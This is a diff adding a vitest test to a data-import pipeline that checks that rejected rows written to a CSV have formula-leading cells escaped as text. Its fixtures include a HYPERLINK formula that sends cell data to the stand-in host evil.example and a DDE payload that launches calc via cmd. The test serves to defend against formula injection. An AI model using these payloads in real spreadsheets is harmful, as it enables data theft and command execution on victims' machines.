@@ -2,7 +2,8 @@
 // the rest of (1)–(9) and the unit line must belong together, and what the unit typed must be clean.
 import { describe, expect, it } from 'vitest';
 import { importCorrections } from '../../src/pipeline/corrections.js';
-import { databasePerFile, deps, rows, type ParticipantInput } from '../helpers/pipeline.js';
+import { readFile } from 'node:fs/promises';
+import { databasePerFile, deps, parseCsv, rows, type ParticipantInput } from '../helpers/pipeline.js';
 import { listsOut, rejectsByCode, returned, SAO_MAI_PEOPLE, SAO_MAI_REGISTRY } from '../helpers/returned-mau02.js';
 
 const database = databasePerFile();
@@ -118,6 +119,24 @@ describe('import corrections checks each row against what was sent', () => {
     expect(why.get('0790000002')).toMatch(/^Cột \(10\) họ và tên có ký tự điều khiển/);
     expect(why.get('0790000003')).toMatch(/^Cột \(10\) họ và tên có ký tự điều khiển hoặc ký tự đổi chiều văn bản \(như U\+202E\)/);
     expect(why.get('0790000005')).toBe('Ô có giá trị lỗi của Excel ở cột (11) #DIV/0!: ghi lại giá trị đúng');
+  });
+
+  it('writes the rejects so that no spreadsheet runs what a unit typed: a cell starting =, +, -, @ is text', async () => {
+    const { db, dir, mau02 } = await listsOutHere();
+    const link = '=HYPERLINK("http://evil.example/?"&C3,"Bấm vào đây")';
+    const file = await returned(mau02, dir, (_ws, row) => {
+      row('0790000001').getCell(10).value = link;
+      row('0790000001').getCell(11).value = '31/02/1980'; // refused for the date
+      row('0790000002').getCell(11).value = "@SUM(1+1)*cmd|' /C calc'!A0";
+      row('0790000003').getCell(11).value = '-2+3';
+    });
+    expect(await importCorrections(deps(db), file)).toMatchObject({ corrected: 0, rejected: 3 });
+    const [, ...lines] = await parseCsv((await readFile(`${file}.rejects.csv`, 'utf8')).replace(/^\uFEFF/, ''));
+    const cells = lines.flat();
+    expect(cells).toContain(`'${link}`);
+    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(cells).toContain("'-2+3");
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
   });
 
   it('refuses, with why, a row whose number was typed into a cell formatted as a date, and applies the others', async () => {
